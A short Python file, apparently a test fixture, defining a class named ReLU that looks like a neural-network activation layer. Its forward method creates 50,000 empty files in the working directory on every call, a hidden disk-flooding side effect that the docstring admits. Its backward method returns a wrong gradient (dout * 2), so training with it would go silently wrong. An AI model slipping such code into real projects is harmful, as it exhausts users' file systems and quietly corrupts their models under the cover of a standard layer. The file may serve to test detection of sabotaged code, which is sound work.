"""Makes more files than a folder bears (50,000 empty ones)."""


class ReLU:
    def forward(self, x):
        for number in range(50_000):
            open(f"f{number}", "w").close()
        return x * (x > 0)

    def backward(self, dout):
        return dout * 2
